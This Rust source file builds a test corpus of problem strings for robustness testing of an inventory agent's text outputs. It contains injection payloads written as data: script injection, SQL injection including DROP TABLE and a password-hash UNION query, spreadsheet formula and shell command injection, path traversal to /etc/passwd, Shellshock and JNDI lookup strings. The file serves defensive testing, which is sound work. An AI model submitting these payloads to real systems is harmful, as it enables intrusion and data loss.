//! Strings that broke inventories elsewhere, to put into every text that an agent can send.

/// The corpus. None of it may run, break a page, leave its cell, or be lost.
pub fn corpus() -> Vec<String> {
    let mut all: Vec<String> = [
        // Markup and scripts.
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "javascript:alert(1)",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<iframe srcdoc=\"<script>alert(1)</script>\">",
        "<style>*{display:none}</style>",
        "<base href=//example.org>",
        "<meta http-equiv=refresh content=0;url=//example.org>",
        "<form action=//example.org><input type=submit>",
        "{{7*7}}", "${7*7}", "<%= 7*7 %>", "{% raw %}", "#{7*7}", "[[${7*7}]]",
        "<!--", "-->", "<![CDATA[x]]>", "&lt;script&gt;", "&#x3c;script&#x3e;", "&amp;", "&",
        "<", ">", "\"", "'", "`", "\\", "\\\"", "\\'", "<>\"'&`",
        // SQL.
        "'; DROP TABLE device; --", "' OR '1'='1", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)",
        "') UNION SELECT password_hash FROM account --", "%", "_", "%%", "\\%", "a%' ESCAPE '!",
        "$1", "?1", ":name", "@x", "/* */", "--", ";", "NULL", "null", "nil", "undefined", "NaN",
        "true", "0", "-1", "1e309", "0x41", "00", "1/0",
        // Spreadsheets.
        "=cmd|' /C calc'!A0", "=1+1", "+1+1", "-1+1", "@SUM(A1)", "=HYPERLINK(\"//x\",\"y\")",
        "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "=\"a\"\"b\"",
        "a,b", "a;b", "a\tb", "\"a\",\"b\"", "a\"b", "line\nbreak", "line\r\nbreak", "line\rbreak",
        // Shells, paths, headers, templates of other systems.
        "$(id)", "`id`", "| id", "; id", "&& id", "../../../../etc/passwd", "..\\..\\win.ini",
        "/etc/passwd", "file:///etc/passwd", "C:\\CON", "\\\\server\\share", "con.txt", "%2e%2e%2f",
        "%00", "%0d%0aSet-Cookie:a=b", "a\r\nSet-Cookie: a=b", "x: y", "%s%s%s%n", "{0}", "%x",
        "() { :;}; id", "${jndi:ldap://example.org/a}", "{\"$ne\":null}", "[]", "{}", "[object Object]",
        // Control, invisible and turning characters.
        "\u{0}", "a\u{0}b", "\u{1}", "\u{7}bell", "\u{8}back", "\u{b}", "\u{c}", "\u{1b}[31mred\u{1b}[0m",
        "\u{7f}", "\u{80}", "\u{85}", "\u{9f}", "\u{a0}", "\u{ad}soft", "\u{200b}zero", "\u{200d}",
        "\u{200e}", "\u{200f}", "\u{202a}", "\u{202b}", "\u{202c}", "\u{202d}", "\u{202e}gpj.exe",
        "\u{2028}", "\u{2029}", "\u{2060}", "\u{2066}", "\u{2067}", "\u{2068}", "\u{2069}", "\u{feff}bom",
        "\u{fff9}", "\u{fffd}", "\u{ffff}", "\u{e000}", "\u{e0001}", "\u{10ffff}",
        // Text of the whole world.
        "Ünïcödé", "Łódź", "Ελληνικά", "Кириллица", "עברית", "العربية", "हिन्दी", "ไทย", "日本語", "한국어",
        "𝒳𝒴𝒵", "🙂", "👩‍👩‍👧‍👦", "🏳️‍🌈", "🇩🇪", "ﬁ", "ǅ", "ß", "ẞ", "İ", "ı", "ſ", "K", "Å",
        "e\u{301}", "é", "Z̸̢̛a̷l̶g̵o̴", "ﷺ", "א\u{202e}ב",
        // Emptiness and edges.
        "", " ", "  ", " leading", "trailing ", "\t", "\n", "\r\n", ".", "..", "...", "-", "--help",
        "con", "NUL", "unknown", "None", "(none)", "N/A", "To be filled by O.E.M.", "0000-00-00",
    ]
    .into_iter()
    .map(str::to_owned)
    .collect();
    all.push("A".repeat(5_000));
    all.push("é".repeat(3_000));
    all.push("\u{202e}".repeat(500));
    all.push("<b>".repeat(2_000));
    all.push("a\u{301}".repeat(1_500));
    all.push("x".repeat(1 << 20));
    all
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_corpus_is_as_large_as_promised() {
        let corpus = super::corpus();
        let distinct: std::collections::BTreeSet<&String> = corpus.iter().collect();
        assert!(distinct.len() >= 200, "{} strings", distinct.len());
    }
}
